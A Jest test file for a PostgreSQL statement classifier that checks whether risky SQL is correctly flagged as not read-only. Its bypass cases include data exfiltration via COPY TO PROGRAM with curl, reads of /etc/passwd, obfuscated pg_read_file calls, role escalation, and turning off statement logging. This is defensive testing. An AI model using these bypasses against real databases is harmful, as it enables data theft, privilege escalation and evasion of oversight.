import { execFileSync } from 'node:child_process';
import path from 'node:path';
import { classify, initSqlParser } from './classify';
import { fingerprintStatement } from './parser';
import { UTILITY_CLASSES } from './statement-kinds';
import type { StatementInfo } from './types';

beforeAll(async () => {
  await initSqlParser();
});

/** The only statement of `sql` (fails when there is not exactly one). */
function one(sql: string): StatementInfo {
  const c = classify(sql);
  expect(c.parse_error).toBeNull();
  expect(c.statements).toHaveLength(1);
  return c.statements[0] as StatementInfo;
}

type Expectation = Partial<Omit<StatementInfo, 'prepared'>> & { prepared?: unknown };

/** THREATS.md "SQL-level bypasses": every case must come out as not read-only with its effect visible. */
const bypasses: { note: string; sql: string; expect: Expectation }[] = [
  {
    note: 'data-modifying CTE',
    sql: 'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d',
    expect: {
      command: 'SELECT',
      read_only: false,
      has_where: false,
      relations: [{ schema: null, name: 't', access: 'write' }],
    },
  },
  {
    note: 'SELECT INTO',
    sql: 'SELECT * INTO newt FROM t',
    expect: {
      command: 'SELECT INTO',
      read_only: false,
      ddl: true,
      relations: [
        { schema: null, name: 'newt', access: 'ddl' },
        { schema: null, name: 'newt', access: 'write' },
        { schema: null, name: 't', access: 'read' },
      ],
    },
  },
  {
    note: 'EXPLAIN ANALYZE executes its statement',
    sql: 'EXPLAIN ANALYZE DELETE FROM t',
    expect: {
      command: 'EXPLAIN',
      node: 'ExplainStmt',
      read_only: false,
      has_where: false,
      relations: [{ schema: null, name: 't', access: 'write' }],
    },
  },
  {
    note: 'EXPLAIN (ANALYZE) option list',
    sql: 'EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1',
    expect: { read_only: false, has_where: false, relations: [{ schema: null, name: 't', access: 'write' }] },
  },
  {
    note: 'COPY of a DELETE ... RETURNING',
    sql: 'COPY (DELETE FROM t RETURNING *) TO STDOUT',
    expect: {
      command: 'COPY',
      read_only: false,
      has_where: false,
      relations: [{ schema: null, name: 't', access: 'write' }],
      copy: { direction: 'to', stdio: true, program: false, filename: null, query: true },
    },
  },
  {
    note: 'CREATE TABLE AS',
    sql: 'CREATE TABLE x AS SELECT * FROM t',
    expect: {
      command: 'CREATE TABLE AS',
      ddl: true,
      read_only: false,
      relations: [
        { schema: null, name: 'x', access: 'ddl' },
        { schema: null, name: 'x', access: 'write' },
        { schema: null, name: 't', access: 'read' },
      ],
    },
  },
  {
    note: 'pg_terminate_backend',
    sql: 'SELECT pg_terminate_backend(1)',
    expect: { read_only: false, functions: ['pg_terminate_backend'] },
  },
  {
    note: 'lo_import',
    sql: "SELECT lo_import('/etc/passwd')",
    expect: { read_only: false, functions: ['lo_import'] },
  },
  {
    note: 'schema-qualified pg_read_file',
    sql: "SELECT pg_catalog.pg_read_file('x')",
    expect: { read_only: false, functions: ['pg_catalog.pg_read_file'] },
  },
  {
    note: 'quoted function name',
    sql: `SELECT "pg_read_file"('x')`,
    expect: { read_only: false, functions: ['pg_read_file'] },
  },
  {
    note: 'U& identifier for the function name',
    sql: `SELECT U&"pg\\005fread\\005ffile"('x')`,
    expect: { read_only: false, functions: ['pg_read_file'] },
  },
  {
    note: 'U& identifier with custom escape, schema-qualified',
    sql: `SELECT U&"pg!005fcatalog" UESCAPE '!' . U&"pg!005fread!005ffile" UESCAPE '!' ('x')`,
    expect: { read_only: false, functions: ['pg_catalog.pg_read_file'] },
  },
  {
    note: 'dblink_exec',
    sql: "SELECT dblink_exec('host=x', 'DROP TABLE t')",
    expect: { read_only: false, functions: ['dblink_exec'] },
  },
  {
    note: 'set_config(role)',
    sql: "SELECT set_config('role','postgres',false)",
    expect: {
      read_only: false,
      role_change: true,
      functions: ['set_config'],
      settings: [{ name: 'role', value: 'postgres', local: false, via: 'set_config' }],
    },
  },
  {
    note: 'set_config(session_authorization), upper case, local, nested in WHERE',
    sql: "SELECT 1 FROM t WHERE set_config('SESSION_AUTHORIZATION', 'postgres', true) IS NOT NULL",
    expect: {
      read_only: false,
      role_change: true,
      settings: [{ name: 'session_authorization', value: 'postgres', local: true, via: 'set_config' }],
    },
  },
  {
    note: 'set_config with a computed name',
    sql: "SELECT pg_catalog.set_config(lower('ROLE'), 'postgres', false)",
    expect: {
      read_only: false,
      role_change: true,
      functions: ['pg_catalog.set_config', 'lower'],
      settings: [{ name: '*', value: 'postgres', local: false, via: 'set_config' }],
    },
  },
  {
    note: 'SET ROLE',
    sql: 'SET ROLE postgres',
    expect: {
      command: 'SET',
      read_only: false,
      role_change: true,
      utility: 'set',
      settings: [{ name: 'role', value: 'postgres', local: false, via: 'set' }],
    },
  },
  {
    note: 'SET LOCAL ROLE',
    sql: 'SET LOCAL ROLE postgres',
    expect: { role_change: true, settings: [{ name: 'role', value: 'postgres', local: true, via: 'set' }] },
  },
  {
    note: 'SET SESSION AUTHORIZATION',
    sql: 'SET SESSION AUTHORIZATION postgres',
    expect: {
      read_only: false,
      role_change: true,
      settings: [{ name: 'session_authorization', value: 'postgres', local: false, via: 'set' }],
    },
  },
  {
    note: 'SET SESSION AUTHORIZATION DEFAULT',
    sql: 'SET SESSION AUTHORIZATION DEFAULT',
    expect: { read_only: false, role_change: true },
  },
  {
    note: 'RESET ROLE',
    sql: 'RESET ROLE',
    expect: {
      command: 'RESET',
      read_only: false,
      role_change: true,
      settings: [{ name: 'role', value: null, local: false, via: 'reset' }],
    },
  },
  {
    note: 'RESET SESSION AUTHORIZATION',
    sql: 'RESET SESSION AUTHORIZATION',
    expect: { read_only: false, role_change: true },
  },
  {
    note: 'RESET ALL',
    sql: 'RESET ALL',
    expect: {
      read_only: false,
      role_change: true,
      settings: [{ name: 'all', value: null, local: false, via: 'reset' }],
      transaction: { kind: 'SET_SESSION_CHARACTERISTICS', mode: 'read_write' },
    },
  },
  {
    note: 'DO block',
    sql: 'DO $$ BEGIN DELETE FROM t; END $$',
    expect: { command: 'DO', utility: 'do', read_only: false },
  },
  {
    note: 'CREATE FUNCTION',
    sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
    expect: { command: 'CREATE FUNCTION', utility: 'create_function', ddl: true, read_only: false },
  },
  {
    note: 'CREATE PROCEDURE with a SQL body',
    sql: 'CREATE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC DELETE FROM t; END',
    expect: { command: 'CREATE PROCEDURE', utility: 'create_function', ddl: true, read_only: false },
  },
  {
    note: 'CREATE RULE',
    sql: 'CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u',
    expect: {
      command: 'CREATE RULE',
      utility: 'create_rule',
      ddl: true,
      read_only: false,
      relations: [
        { schema: null, name: 't', access: 'ddl' },
        { schema: null, name: 'u', access: 'write' },
      ],
    },
  },
  {
    note: 'CREATE TRIGGER',
    sql: 'CREATE TRIGGER trg BEFORE INSERT ON s.t FOR EACH ROW EXECUTE FUNCTION f()',
    expect: {
      command: 'CREATE TRIGGER',
      utility: 'create_trigger',
      ddl: true,
      read_only: false,
      relations: [{ schema: 's', name: 't', access: 'ddl' }],
    },
  },
  {
    note: 'ALTER SYSTEM',
    sql: "ALTER SYSTEM SET log_statement = 'none'",
    expect: {
      command: 'ALTER SYSTEM',
      utility: 'alter_system',
      ddl: true,
      read_only: false,
      settings: [{ name: 'log_statement', value: 'none', local: false, via: 'set' }],
    },
  },
  {
    note: 'LOAD',
    sql: "LOAD 'auto_explain'",
    expect: { command: 'LOAD', utility: 'load', read_only: false },
  },
  {
    note: 'CREATE EXTENSION',
    sql: 'CREATE EXTENSION dblink',
    expect: { command: 'CREATE EXTENSION', utility: 'create_extension', ddl: true, read_only: false },
  },
  {
    note: 'COPY TO PROGRAM',
    sql: "COPY t TO PROGRAM 'curl -d @- http://x'",
    expect: {
      read_only: false,
      utility: 'copy',
      relations: [{ schema: null, name: 't', access: 'read' }],
      copy: { direction: 'to', stdio: false, program: true, filename: null, query: false },
    },
  },
  {
    note: 'COPY FROM a server file',
    sql: "COPY t FROM '/etc/passwd'",
    expect: {
      read_only: false,
      relations: [{ schema: null, name: 't', access: 'write' }],
      copy: { direction: 'from', stdio: false, program: false, filename: '/etc/passwd', query: false },
    },
  },
  {
    note: 'COPY TO a server file',
    sql: "COPY t TO '/tmp/out'",
    expect: {
      read_only: false,
      copy: { direction: 'to', stdio: false, program: false, filename: '/tmp/out', query: false },
    },
  },
  {
    note: 'COPY FROM STDIN',
    sql: 'COPY s.t (a) FROM STDIN WITH (FORMAT csv)',
    expect: {
      read_only: false,
      relations: [{ schema: 's', name: 't', access: 'write' }],
      copy: { direction: 'from', stdio: true, program: false, filename: null, query: false },
    },
  },
  {
    note: 'MERGE',
    sql: 'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (s.id)',
    expect: {
      command: 'MERGE',
      read_only: false,
      has_where: null,
      relations: [
        { schema: null, name: 't', access: 'write' },
        { schema: null, name: 's', access: 'read' },
      ],
    },
  },
  {
    note: 'INSERT ON CONFLICT DO UPDATE',
    sql: 'INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET v = excluded.v',
    expect: {
      command: 'INSERT',
      read_only: false,
      relations: [{ schema: null, name: 't', access: 'write' }],
    },
  },
  {
    note: 'DELETE without WHERE',
    sql: 'DELETE FROM t',
    expect: { command: 'DELETE', has_where: false, read_only: false, utility: null },
  },
  {
    note: 'DELETE with WHERE',
    sql: 'DELETE FROM t WHERE id = 1',
    expect: { command: 'DELETE', has_where: true },
  },
  {
    note: 'UPDATE without WHERE',
    sql: 'UPDATE t SET a = 1',
    expect: { command: 'UPDATE', has_where: false },
  },
  {
    note: 'UPDATE with WHERE and a subquery',
    sql: 'UPDATE t SET a = (SELECT b FROM u) WHERE id = 1',
    expect: {
      has_where: true,
      relations: [
        { schema: null, name: 't', access: 'write' },
        { schema: null, name: 'u', access: 'read' },
      ],
    },
  },
  {
    note: 'BEGIN READ WRITE',
    sql: 'BEGIN READ WRITE',
    expect: { command: 'BEGIN', read_only: false, transaction: { kind: 'BEGIN', mode: 'read_write' } },
  },
  {
    note: 'BEGIN ISOLATION LEVEL ..., READ WRITE',
    sql: 'BEGIN ISOLATION LEVEL SERIALIZABLE, READ WRITE',
    expect: { read_only: false, transaction: { kind: 'BEGIN', mode: 'read_write' } },
  },
  {
    note: 'SET TRANSACTION READ WRITE',
    sql: 'SET TRANSACTION READ WRITE',
    expect: {
      read_only: false,
      transaction: { kind: 'SET_TRANSACTION', mode: 'read_write' },
      settings: [{ name: 'transaction_read_only', value: '0', local: true, via: 'set' }],
    },
  },
  {
    note: 'SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE',
    sql: 'SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE',
    expect: {
      read_only: false,
      transaction: { kind: 'SET_SESSION_CHARACTERISTICS', mode: 'read_write' },
      settings: [{ name: 'default_transaction_read_only', value: '0', local: false, via: 'set' }],
    },
  },
  {
    note: 'SET default_transaction_read_only = off',
    sql: 'SET default_transaction_read_only = off',
    expect: {
      read_only: false,
      transaction: { kind: 'SET_SESSION_CHARACTERISTICS', mode: 'read_write' },
      settings: [{ name: 'default_transaction_read_only', value: 'off', local: false, via: 'set' }],
    },
  },
  {
    note: 'SET transaction_read_only TO off',
    sql: 'SET transaction_read_only TO off',
    expect: {
      read_only: false,
      transaction: { kind: 'SET_TRANSACTION', mode: 'read_write' },
      settings: [{ name: 'transaction_read_only', value: 'off', local: false, via: 'set' }],
    },
  },
  {
    note: 'set_config(transaction_read_only)',
    sql: "SELECT set_config('transaction_read_only', 'f', false)",
    expect: { read_only: false, transaction: { kind: 'SET_TRANSACTION', mode: 'read_write' } },
  },
  {
    note: 'CREATE TABLE AS EXECUTE runs a prepared statement',
    sql: 'CREATE TABLE x AS EXECUTE p',
    expect: { read_only: false, ddl: true, prepared: { kind: 'execute', name: 'p' } },
  },
  {
    note: 'EXPLAIN ANALYZE EXECUTE runs a prepared statement',
    sql: 'EXPLAIN ANALYZE EXECUTE p(1)',
    expect: { read_only: false, utility: 'execute', prepared: { kind: 'execute', name: 'p' } },
  },
  {
    note: 'side-effect function in FROM',
    sql: "SELECT * FROM pg_ls_dir('/') AS d",
    expect: { read_only: false, functions: ['pg_ls_dir'], relations: [] },
  },
  {
    note: 'SQL executed from text by query_to_xml',
    sql: "SELECT query_to_xml('DELETE FROM t RETURNING 1', true, false, '')",
    expect: { read_only: false },
  },
  {
    note: 'nextval',
    sql: "SELECT nextval('s')",
    expect: { read_only: false, functions: ['nextval'] },
  },
  {
    note: 'DISCARD ALL resets the role',
    sql: 'DISCARD ALL',
    expect: {
      command: 'DISCARD ALL',
      utility: 'discard',
      read_only: false,
      role_change: true,
      prepared: { kind: 'discard', name: null },
    },
  },
  {
    note: 'CALL',
    sql: "CALL s.proc(nextval('q'))",
    expect: { command: 'CALL', utility: 'call', read_only: false, functions: ['s.proc', 'nextval'] },
  },
  {
    note: 'function in a column default',
    sql: "CREATE TABLE t (id int DEFAULT nextval('s'), b text REFERENCES u)",
    expect: {
      command: 'CREATE TABLE',
      ddl: true,
      functions: ['nextval'],
      relations: [
        { schema: null, name: 't', access: 'ddl' },
        { schema: null, name: 'u', access: 'read' },
      ],
    },
  },
  {
    note: 'TRUNCATE',
    sql: 'TRUNCATE a, s.b',
    expect: {
      command: 'TRUNCATE',
      read_only: false,
      relations: [
        { schema: null, name: 'a', access: 'write' },
        { schema: 's', name: 'b', access: 'write' },
      ],
    },
  },
];

describe('SQL-level bypasses (THREATS.md)', () => {
  test.each(bypasses)('$note: $sql', ({ sql, expect: expected }) => {
    expect(one(sql)).toMatchObject(expected);
  });

  test('several statements are all reported, each with its own text', () => {
    const c = classify('SELECT 1; DROP TABLE t');
    expect(c.parse_error).toBeNull();
    expect(c.statements.map((s) => [s.sql, s.command, s.read_only, s.ddl])).toEqual([
      ['SELECT 1', 'SELECT', true, false],
      ['DROP TABLE t', 'DROP TABLE', false, true],
    ]);
    expect(c.statements[1]?.relations).toEqual([{ schema: null, name: 't', access: 'ddl' }]);
  });

  test('PREPARE p AS DELETE then EXECUTE p', () => {
    const c = classify('PREPARE p (int) AS DELETE FROM t WHERE id = $1; EXECUTE p(1)');
    const [prep, exec] = c.statements;
    expect(prep).toMatchObject({
      command: 'PREPARE',
      utility: 'prepare',
      read_only: false,
      relations: [{ schema: null, name: 't', access: 'read' }],
      prepared: {
        kind: 'prepare',
        name: 'p',
        inner: {
          command: 'DELETE',
          sql: 'DELETE FROM t WHERE id = $1',
          has_where: true,
          read_only: false,
          relations: [{ schema: null, name: 't', access: 'write' }],
        },
      },
    });
    expect(prep?.prepared?.inner?.fingerprint).toMatch(/^[0-9a-f]{16}$/);
    expect(prep?.prepared?.inner?.fingerprint).not.toBe(prep?.fingerprint);
    expect(exec).toMatchObject({
      command: 'EXECUTE',
      utility: 'execute',
      read_only: false,
      prepared: { kind: 'execute', name: 'p' },
    });
  });

  test('PREPARE of a read-only statement, name "as" and type list with parentheses', () => {
    const s = one('PREPARE "as" (numeric(10, 2), int) AS SELECT * FROM t WHERE a = $1');
    expect(s.read_only).toBe(true);
    expect(s.prepared).toMatchObject({
      kind: 'prepare',
      name: 'as',
      inner: { command: 'SELECT', sql: 'SELECT * FROM t WHERE a = $1', read_only: true },
    });
  });

  test('PREPARE whose text holds a control character (as PostgreSQL accepts it)', () => {
    // libpg-query's scanSync JSON does not escape it; it was a parse error ("Bad control character").
    const c = classify("PREPARE p AS DELETE FROM t WHERE note = 'a\x01b\x1fc'");
    expect(c.parse_error).toBeNull();
    expect(c.statements[0]!.prepared).toMatchObject({
      kind: 'prepare',
      inner: { command: 'DELETE', sql: "DELETE FROM t WHERE note = 'a\x01b\x1fc'" },
    });
  });
});

describe('read-only statements', () => {
  test.each([
    ['SELECT 1', 'SELECT'],
    ['VALUES (1), (2)', 'SELECT'],
    ['SELECT * FROM a JOIN b ON a.id = b.id WHERE a.x IN (SELECT x FROM c)', 'SELECT'],
    ['SHOW search_path', 'SHOW'],
    ['EXPLAIN SELECT * FROM t', 'EXPLAIN'],
    ['BEGIN', 'BEGIN'],
    ['START TRANSACTION READ ONLY', 'START TRANSACTION'],
    ['COMMIT', 'COMMIT'],
    ['ROLLBACK', 'ROLLBACK'],
    ['SAVEPOINT s', 'SAVEPOINT'],
    ['ROLLBACK TO SAVEPOINT s', 'ROLLBACK'],
    ['COPY t TO STDOUT', 'COPY'],
    ['COPY (SELECT * FROM t) TO STDOUT', 'COPY'],
    ['DEALLOCATE p', 'DEALLOCATE'],
    // FOR UPDATE takes row locks but changes no data: still read-only (documented).
    ['SELECT * FROM t FOR UPDATE', 'SELECT'],
  ])('%s', (sql, command) => {
    expect(one(sql)).toMatchObject({
      command,
      read_only: true,
      ddl: false,
      role_change: false,
      settings: [],
    });
  });

  test('transaction modes', () => {
    expect(one('BEGIN').transaction).toEqual({ kind: 'BEGIN', mode: null });
    expect(one('START TRANSACTION READ ONLY').transaction).toEqual({ kind: 'START', mode: 'read_only' });
    expect(one('ROLLBACK TO s').transaction).toEqual({ kind: 'ROLLBACK_TO', mode: null });
    expect(one("COMMIT PREPARED 'x'")).toMatchObject({
      command: 'COMMIT PREPARED',
      read_only: false,
      transaction: { kind: 'COMMIT_PREPARED', mode: null },
    });
  });

  test('plain EXPLAIN reports relations as read but is only read-only when its statement is', () => {
    expect(one('EXPLAIN DELETE FROM t')).toMatchObject({
      read_only: false,
      has_where: null,
      relations: [{ schema: null, name: 't', access: 'read' }],
    });
    expect(one('EXPLAIN (ANALYZE false) DELETE FROM t')).toMatchObject({
      read_only: false,
      relations: [{ schema: null, name: 't', access: 'read' }],
    });
    expect(one("EXPLAIN SELECT set_config('role', 'x', false)")).toMatchObject({
      read_only: false,
      role_change: false,
      functions: ['set_config'],
    });
  });
});

describe('relations', () => {
  test('CTE names are not relations; a CTE does not hide the table it reads', () => {
    expect(one('WITH x AS (SELECT 1) SELECT * FROM x').relations).toEqual([]);
    expect(one('WITH t AS (SELECT * FROM t) SELECT * FROM t').relations).toEqual([
      { schema: null, name: 't', access: 'read' },
    ]);
    expect(one('WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b, public.a').relations).toEqual([
      { schema: 'public', name: 'a', access: 'read' },
    ]);
    expect(
      one('WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r WHERE n < 3) SELECT * FROM r')
        .relations,
    ).toEqual([]);
  });

  test('CTE scope ends with its statement', () => {
    expect(one('SELECT * FROM (WITH x AS (SELECT 1) SELECT * FROM x) s, x').relations).toEqual([
      { schema: null, name: 'x', access: 'read' },
    ]);
  });

  test('set operations, subqueries, joins, INSERT ... SELECT, DELETE ... USING', () => {
    expect(one('SELECT a FROM t UNION SELECT a FROM s.u').relations).toEqual([
      { schema: null, name: 't', access: 'read' },
      { schema: 's', name: 'u', access: 'read' },
    ]);
    expect(one('INSERT INTO t SELECT * FROM u').relations).toEqual([
      { schema: null, name: 't', access: 'write' },
      { schema: null, name: 'u', access: 'read' },
    ]);
    expect(one('DELETE FROM t USING u WHERE t.id = u.id').relations).toEqual([
      { schema: null, name: 't', access: 'write' },
      { schema: null, name: 'u', access: 'read' },
    ]);
    expect(one('SELECT * FROM a WHERE EXISTS (SELECT 1 FROM b WHERE b.id = a.id)').relations).toEqual([
      { schema: null, name: 'a', access: 'read' },
      { schema: null, name: 'b', access: 'read' },
    ]);
  });

  test('quoted and U& identifiers come out decoded', () => {
    expect(one('SELECT * FROM "Secret"."T"').relations).toEqual([
      { schema: 'Secret', name: 'T', access: 'read' },
    ]);
    expect(one('SELECT * FROM U&"\\0073ecret"').relations).toEqual([
      { schema: null, name: 'secret', access: 'read' },
    ]);
    expect(one('DELETE FROM U&"\\0074" WHERE true').relations).toEqual([
      { schema: null, name: 't', access: 'write' },
    ]);
  });

  test('DDL targets', () => {
    expect(one('DROP TABLE a, s.b')).toMatchObject({
      command: 'DROP TABLE',
      relations: [
        { schema: null, name: 'a', access: 'ddl' },
        { schema: 's', name: 'b', access: 'ddl' },
      ],
    });
    expect(one('DROP TRIGGER trg ON s.t')).toMatchObject({
      command: 'DROP TRIGGER',
      relations: [{ schema: 's', name: 't', access: 'ddl' }],
    });
    expect(one('DROP FUNCTION f(int)')).toMatchObject({ command: 'DROP FUNCTION', ddl: true, relations: [] });
    expect(one('ALTER TABLE t ADD COLUMN c int')).toMatchObject({
      command: 'ALTER TABLE',
      ddl: true,
      utility: null,
      relations: [{ schema: null, name: 't', access: 'ddl' }],
    });
    expect(one('CREATE VIEW v AS SELECT * FROM t').relations).toEqual([
      { schema: null, name: 'v', access: 'ddl' },
      { schema: null, name: 't', access: 'read' },
    ]);
    expect(one('CREATE SCHEMA s CREATE TABLE t (a int)').relations).toEqual([
      { schema: null, name: 't', access: 'ddl' },
    ]);
    expect(one('GRANT SELECT ON s.t TO bob')).toMatchObject({
      command: 'GRANT',
      utility: 'grant',
      ddl: true,
      relations: [{ schema: 's', name: 't', access: 'ddl' }],
    });
    expect(one('CREATE MATERIALIZED VIEW m AS SELECT 1').command).toBe('CREATE MATERIALIZED VIEW');
  });
});

describe('utility classes', () => {
  test.each([
    ['REVOKE SELECT ON t FROM bob', 'revoke', 'REVOKE'],
    ['GRANT admin TO bob', 'grant', 'GRANT ROLE'],
    ['CREATE ROLE x', 'create_role', 'CREATE ROLE'],
    ['ALTER ROLE bob SUPERUSER', 'alter_role', 'ALTER ROLE'],
    ['DROP ROLE bob', 'drop_role', 'DROP ROLE'],
    [
      'CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()',
      'create_event_trigger',
      'CREATE EVENT TRIGGER',
    ],
    ["SECURITY LABEL ON TABLE t IS 'x'", 'security_label', 'SECURITY LABEL'],
    ['VACUUM t', 'vacuum', 'VACUUM'],
    ['ANALYZE t', 'analyze', 'ANALYZE'],
    ['CLUSTER t USING i', 'cluster', 'CLUSTER'],
    ['REINDEX TABLE t', 'reindex', 'REINDEX'],
    ['CHECKPOINT', 'checkpoint', 'CHECKPOINT'],
    ['LOCK TABLE t IN ACCESS EXCLUSIVE MODE', 'lock', 'LOCK TABLE'],
    ['LISTEN c', 'listen', 'LISTEN'],
    ['UNLISTEN *', 'unlisten', 'UNLISTEN'],
    ["NOTIFY c, 'x'", 'notify', 'NOTIFY'],
    ['DISCARD TEMP', 'discard', 'DISCARD TEMP'],
    ['DEALLOCATE ALL', 'deallocate', 'DEALLOCATE ALL'],
    ["CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'x')", 'foreign_data', 'CREATE SERVER'],
    ['ALTER FUNCTION f() SECURITY DEFINER', 'alter_function', 'ALTER FUNCTION'],
    ['ALTER TABLE t OWNER TO bob', null, 'ALTER TABLE'],
    ['ALTER FUNCTION f() OWNER TO bob', 'alter_owner', 'ALTER FUNCTION'],
    ['CREATE POLICY p ON t USING (true)', 'policy', 'CREATE POLICY'],
    ['CREATE LANGUAGE plperlu', 'create_extension', 'CREATE EXTENSION'],
    ['CREATE LANGUAGE pl HANDLER h', 'create_language', 'CREATE LANGUAGE'],
    ['DECLARE c CURSOR FOR SELECT 1', 'cursor', 'DECLARE CURSOR'],
    ['FETCH 10 FROM c', 'cursor', 'FETCH'],
    ['CLOSE ALL', 'cursor', 'CLOSE CURSOR ALL'],
    ['CREATE DATABASE d', 'create_database', 'CREATE DATABASE'],
    ['CREATE SUBSCRIPTION s CONNECTION $$x$$ PUBLICATION p', 'subscription', 'CREATE SUBSCRIPTION'],
    ['INSERT INTO t VALUES (1)', null, 'INSERT'],
  ])('%s', (sql, utility, command) => {
    const s = one(sql);
    expect(s.utility).toBe(utility);
    expect(s.command).toBe(command);
    if (utility !== null) expect(UTILITY_CLASSES).toContain(utility);
    if (utility !== 'cursor') expect(s.read_only).toBe(utility === 'deallocate' || utility === 'cursor');
  });

  test('DEALLOCATE names', () => {
    expect(one('DEALLOCATE ALL').prepared).toEqual({ kind: 'deallocate', name: null });
    expect(one('DEALLOCATE PREPARE p').prepared).toEqual({ kind: 'deallocate', name: 'p' });
    expect(one('DISCARD PLANS').prepared).toEqual({ kind: 'discard', name: null });
    expect(one('DISCARD TEMP').prepared).toBeNull();
  });
});

describe('settings', () => {
  test('SET LOCAL with a list value, SET TO DEFAULT, SET TIME ZONE, SET FROM CURRENT', () => {
    expect(one("SET LOCAL search_path = a, 'b'").settings).toEqual([
      { name: 'search_path', value: 'a, b', local: true, via: 'set' },
    ]);
    expect(one('SET work_mem TO DEFAULT').settings).toEqual([
      { name: 'work_mem', value: null, local: false, via: 'set' },
    ]);
    expect(one("SET TIME ZONE 'UTC'").settings).toEqual([
      { name: 'timezone', value: 'UTC', local: false, via: 'set' },
    ]);
    expect(one('SET "Work_Mem" = 64').settings).toEqual([
      { name: 'work_mem', value: '64', local: false, via: 'set' },
    ]);
    expect(one('SET statement_timeout = 1.5').settings[0]?.value).toBe('1.5');
  });

  test('every set_config call, with non-constant values as null', () => {
    expect(
      one("SELECT set_config('a.b', current_user, true), set_config('work_mem', '1MB', false)").settings,
    ).toEqual([
      { name: 'a.b', value: null, local: true, via: 'set_config' },
      { name: 'work_mem', value: '1MB', local: false, via: 'set_config' },
    ]);
  });

  test('SET of any setting is not read-only, SHOW is', () => {
    expect(one('SET application_name = x').read_only).toBe(false);
    expect(one('SHOW application_name').read_only).toBe(true);
  });
});

describe('fingerprints', () => {
  test('a fingerprint is 16 hex digits, never a parser message taken for one', () => {
    expect(fingerprintStatement('SELECT * FROM t WHERE id = 1')).toMatch(/^[0-9a-f]{16}$/);
    // libpg-query 18.1 returns this grammar error as the "fingerprint".
    expect(() => fingerprintStatement('SELECT * FROM a.b.c.d')).toThrow(/no fingerprint/);
  });
});

describe('texts, errors, fingerprints', () => {
  test('empty text, whitespace and comments only', () => {
    expect(classify('')).toEqual({ statements: [], parse_error: null });
    expect(classify('  \n ')).toEqual({ statements: [], parse_error: null });
    expect(classify('-- nothing\n;/* x */;')).toEqual({ statements: [], parse_error: null });
  });

  test('unparsable text yields the parser message and no statements', () => {
    const c = classify('SELECT 1; SELEC 2');
    expect(c.statements).toEqual([]);
    expect(c.parse_error).toMatch(/syntax error at or near "SELEC"/);
  });

  test('a NUL character is refused (the parser would stop reading there)', () => {
    const c = classify('SELECT 1\u0000; DROP TABLE t');
    expect(c.statements).toEqual([]);
    expect(c.parse_error).toMatch(/NUL/);
  });

  test('statement texts are sliced by UTF-8 byte offsets', () => {
    const c = classify('SELECT \'é€😀\' AS "ü";\n  DELETE FROM "tä" WHERE x = \'→\' ; SELECT 2');
    expect(c.statements.map((s) => s.sql)).toEqual([
      'SELECT \'é€😀\' AS "ü"',
      'DELETE FROM "tä" WHERE x = \'→\'',
      'SELECT 2',
    ]);
    expect(c.statements[1]?.relations).toEqual([{ schema: null, name: 'tä', access: 'write' }]);
  });

  test('fingerprints ignore constants and differ between statements', () => {
    const a = one('SELECT * FROM t WHERE id = 1').fingerprint;
    expect(a).toMatch(/^[0-9a-f]{16}$/);
    expect(one('select *  from t where id = 42').fingerprint).toBe(a);
    expect(one('SELECT * FROM u WHERE id = 1').fingerprint).not.toBe(a);
  });

  // Deeply nested text is walked without recursion by the classifier; what bounds the depth is the
  // native stack left to libpg-query (about 3,000 levels in a gateway process). Inside a jest
  // worker that has run other files, far less is left (even 100 levels overflowed there), so the
  // depth is measured where it matters: a fresh Node.js process running the built classifier
  // (`make unit` builds first). Beyond the limit: parse_error, hence denied, never a guess.
  test('deeply nested expressions are classified; too deep is a parse error, never a guess', () => {
    const dist = path.resolve(__dirname, '..', '..', '..', 'dist', 'sql');
    const script = `
      const { initSqlParser, classify } = require(${JSON.stringify(dist)});
      const deep = (n, inner) => 'SELECT ' + '1 + ('.repeat(n) + inner + ')'.repeat(n);
      initSqlParser().then(() => {
        const c = classify(deep(500, "nextval('s')") + ' FROM t');
        const tooDeep = classify(deep(20000, '1'));
        process.stdout.write(JSON.stringify({ c, tooDeep }));
      });`;
    const { c, tooDeep } = JSON.parse(
      execFileSync(process.execPath, ['-e', script], { encoding: 'utf8' }),
    ) as {
      c: { parse_error: string | null; statements: StatementInfo[] };
      tooDeep: { parse_error: string | null; statements: StatementInfo[] };
    };
    expect(c.parse_error).toBeNull();
    expect(c.statements[0]).toMatchObject({ read_only: false, functions: ['nextval'] });
    expect(tooDeep.statements).toEqual([]);
    expect(tooDeep.parse_error).not.toBeNull();
  });

  test('PREPARE inner text is sliced by UTF-8 byte offsets', () => {
    const c = classify(`SELECT 'ü'; PREPARE p AS SELECT 'é' FROM "tä"`);
    expect(c.statements[1]?.prepared?.inner?.sql).toBe(`SELECT 'é' FROM "tä"`);
  });

  test('classify throws before initSqlParser()', () => {
    jest.isolateModules(() => {
      // eslint-disable-next-line @typescript-eslint/no-require-imports
      const fresh = require('./classify') as typeof import('./classify');
      expect(() => fresh.classify('SELECT 1')).toThrow(/not initialised/);
    });
  });

  test('initSqlParser is idempotent', async () => {
    await Promise.all([initSqlParser(), initSqlParser()]);
    expect(one('SELECT 1').command).toBe('SELECT');
  });
});
